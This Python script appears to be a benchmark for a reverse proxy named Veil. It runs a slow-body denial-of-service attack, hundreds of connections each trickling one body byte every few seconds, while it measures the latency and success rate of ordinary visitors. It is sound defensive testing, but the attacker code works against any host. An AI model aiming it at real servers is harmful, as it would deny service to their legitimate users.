#!/usr/bin/env python3
"""
The slow-body attack of issue 10, against a running Veil, and what other
clients see meanwhile.

Attackers open connections to the site, send a request head announcing a
body (Content-Length) and then one body byte every --interval seconds, as
the probe did (about 300 connections, a byte every 10 s); one that Veil
answers or cuts off is replaced by a new one (unless --no-reconnect), so
that the attack keeps its size.  Visitors, on
their own connections, request the site in a loop.  The visitors' success
rate (2xx/3xx answers) and latency are reported for a baseline phase
without the attack and for the attack phase, with what happened to the
attackers (still sending, answered, cut off).

    bench/proxy/slowbody.py --port 8443 --tls --cafile veil-data/ca/ca.crt \\
        --site shop.test --attackers 300 --interval 10 --duration 60

Standard library only; one thread drives all attackers, one per visitor.
Run it from another machine (or another CPU, `taskset`) for figures that
mean something: on the same loaded machine they are indicative only.
"""

from __future__ import annotations

import argparse
import json
import selectors
import socket
import ssl
import statistics
import threading
import time
from collections import Counter


def connect(args: argparse.Namespace, source: str | None) -> socket.socket:
    raw = socket.create_connection((args.host, args.port), timeout=args.timeout,
                                   source_address=(source, 0) if source else None)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if not args.tls:
        return raw
    context = ssl.create_default_context(cafile=args.cafile)
    if args.insecure:
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(raw, server_hostname=args.site)


def read_response(s: socket.socket) -> int:
    """Read one response (Content-Length or close delimited); its status."""
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(65536)
        if not chunk:
            raise ConnectionError("closed before a response")
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    status = int(lines[0].split()[1])
    length = None
    chunked = False
    for line in lines[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value)
        elif name.strip().lower() == b"transfer-encoding":
            chunked = b"chunked" in value.lower()
    if chunked:
        while not body.endswith(b"0\r\n\r\n"):
            chunk = s.recv(65536)
            if not chunk:
                break
            body += chunk
    elif length is not None:
        while len(body) < length:
            chunk = s.recv(65536)
            if not chunk:
                raise ConnectionError("closed in a body")
            body += chunk
    return status


class Visitors:
    """Threads that each request the site in a loop, recording (phase, status, seconds)."""

    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.phase = "baseline"
        self.stop = threading.Event()
        self.results: list[tuple[str, str, float]] = []
        self.lock = threading.Lock()

    def request(self) -> bytes:
        args = self.args
        if args.post_size:
            return (f"POST {args.path} HTTP/1.1\r\nHost: {args.site}\r\nContent-Length: "
                    f"{args.post_size}\r\nContent-Type: application/octet-stream\r\n\r\n"
                    ).encode() + b"v" * args.post_size
        return f"GET {args.path} HTTP/1.1\r\nHost: {args.site}\r\n\r\n".encode()

    def run(self) -> None:
        request = self.request()
        s = None
        while not self.stop.is_set():
            phase, started = self.phase, time.monotonic()
            try:
                if s is None:
                    s = connect(self.args, self.args.visitor_source)
                s.sendall(request)
                outcome = str(read_response(s))
            except (OSError, ConnectionError, ValueError, IndexError) as e:
                outcome = type(e).__name__
                if s is not None:
                    s.close()
                s = None
            with self.lock:
                self.results.append((phase, outcome, time.monotonic() - started))
            if self.args.pause:
                time.sleep(self.args.pause)
        if s is not None:
            s.close()


class Attackers:
    """One thread holding every attacker connection, each sending a byte every interval."""

    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.stop = threading.Event()
        self.opened = 0
        self.failed_to_open = 0
        self.outcomes: Counter[str] = Counter()
        self.bytes_sent = 0
        self.reconnections = 0

    def run(self) -> None:
        args = self.args
        selector = selectors.DefaultSelector()
        live: dict[socket.socket, float] = {}
        head = (f"POST {args.path} HTTP/1.1\r\nHost: {args.site}\r\nContent-Length: "
                f"{args.body}\r\nContent-Type: application/octet-stream\r\n\r\n").encode()
        spread = args.interval / max(1, args.attackers)

        def open_one(first_byte_in: float) -> bool:
            try:
                s = connect(args, args.attacker_source)
                s.sendall(head + b"a")
            except OSError:
                self.failed_to_open += 1
                return False
            self.bytes_sent += 1
            s.setblocking(False)
            selector.register(s, selectors.EVENT_READ)
            live[s] = time.monotonic() + first_byte_in
            return True

        for i in range(args.attackers):
            if self.stop.is_set():
                break
            # Spread the next bytes over the interval, as independent clients would.
            if open_one(args.interval + i * spread):
                self.opened += 1
        while live and not self.stop.is_set():
            lost = len(live)
            now = time.monotonic()
            timeout = max(0.0, min(live.values()) - now)
            for key, _ in selector.select(timeout=min(timeout, 0.5)):
                s = key.fileobj
                try:
                    answer = s.recv(65536)
                except (ssl.SSLWantReadError, BlockingIOError):
                    continue
                except OSError:
                    answer = b""
                self.outcomes["answered " + answer[9:12].decode("ascii", "replace")
                              if answer.startswith(b"HTTP/") else "cut off"] += 1
                selector.unregister(s)
                s.close()
                del live[s]
            now = time.monotonic()
            for s, due in list(live.items()):
                if due <= now:
                    try:
                        s.send(b"a")
                        self.bytes_sent += 1
                        live[s] = now + args.interval
                    except (BlockingIOError, ssl.SSLWantWriteError):
                        live[s] = now + 0.1
                    except OSError:
                        self.outcomes["cut off"] += 1
                        selector.unregister(s)
                        s.close()
                        del live[s]
            if args.reconnect:
                for _ in range(lost - len(live)):
                    if not self.stop.is_set() and open_one(args.interval):
                        self.reconnections += 1
        self.outcomes["still sending at the end"] += len(live)
        for s in live:
            s.close()


def summary(results: list[tuple[str, str, float]], phase: str) -> dict:
    rows = [(outcome, seconds) for p, outcome, seconds in results if p == phase]
    if not rows:
        return {"requests": 0}
    ok = [seconds for outcome, seconds in rows
          if outcome.isdigit() and 200 <= int(outcome) < 400]
    times = sorted(seconds for _, seconds in rows)

    def pct(q: float) -> float:
        return round(1000 * times[min(len(times) - 1, int(q * len(times)))], 1)
    return {
        "requests": len(rows),
        "success_rate": round(len(ok) / len(rows), 4),
        "outcomes": dict(Counter(outcome for outcome, _ in rows)),
        "latency_ms": {"p50": pct(0.5), "p90": pct(0.9), "p99": pct(0.99),
                       "max": round(1000 * times[-1], 1),
                       "mean": round(1000 * statistics.fmean(times), 1)},
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8443)
    parser.add_argument("--tls", action="store_true", help="speak TLS (the edge port)")
    parser.add_argument("--cafile", help="CA to verify Veil's certificate (internal CA: ca.crt)")
    parser.add_argument("--insecure", action="store_true", help="do not verify the certificate")
    parser.add_argument("--site", required=True, help="the site's host name")
    parser.add_argument("--path", default="/")
    parser.add_argument("--attackers", type=int, default=300)
    parser.add_argument("--interval", type=float, default=10.0,
                        help="seconds between an attacker's body bytes")
    parser.add_argument("--no-reconnect", dest="reconnect", action="store_false",
                        help="do not replace attackers that are answered or cut off")
    parser.add_argument("--body", type=int, default=100_000,
                        help="the Content-Length attackers announce")
    parser.add_argument("--visitors", type=int, default=4)
    parser.add_argument("--post-size", type=int, default=0,
                        help="visitors POST this many bytes instead of GET")
    parser.add_argument("--pause", type=float, default=0.0,
                        help="seconds a visitor waits between its requests")
    parser.add_argument("--baseline", type=float, default=5.0, help="seconds without the attack")
    parser.add_argument("--duration", type=float, default=60.0,
                        help="seconds of attack measured (after every attacker connected)")
    parser.add_argument("--attacker-source", help="local address the attackers connect from")
    parser.add_argument("--visitor-source", help="local address the visitors connect from")
    parser.add_argument("--timeout", type=float, default=30.0, help="socket time-out, seconds")
    args = parser.parse_args()

    visitors = Visitors(args)
    threads = [threading.Thread(target=visitors.run, daemon=True) for _ in range(args.visitors)]
    for t in threads:
        t.start()
    time.sleep(args.baseline)
    attackers = Attackers(args)
    attack = threading.Thread(target=attackers.run, daemon=True)
    attack.start()
    while attackers.opened + attackers.failed_to_open < args.attackers and attack.is_alive():
        time.sleep(0.1)
    visitors.phase = "attack"
    time.sleep(args.duration)
    visitors.stop.set()
    attackers.stop.set()
    for t in threads:
        t.join(args.timeout)
    attack.join(args.timeout)
    print(json.dumps({
        "target": f"{'https' if args.tls else 'http'}://{args.site} at {args.host}:{args.port}",
        "attack": {"connections": args.attackers, "opened": attackers.opened,
                   "failed_to_open": attackers.failed_to_open,
                   "byte_every_s": args.interval, "content_length": args.body,
                   "bytes_sent": attackers.bytes_sent, "reconnections": attackers.reconnections,
                   "outcomes": dict(attackers.outcomes)},
        "visitors": {"count": args.visitors,
                     "request": f"POST {args.post_size} B" if args.post_size else "GET",
                     "baseline": summary(visitors.results, "baseline"),
                     "under_attack": summary(visitors.results, "attack")},
    }, indent=2))


if __name__ == "__main__":
    main()
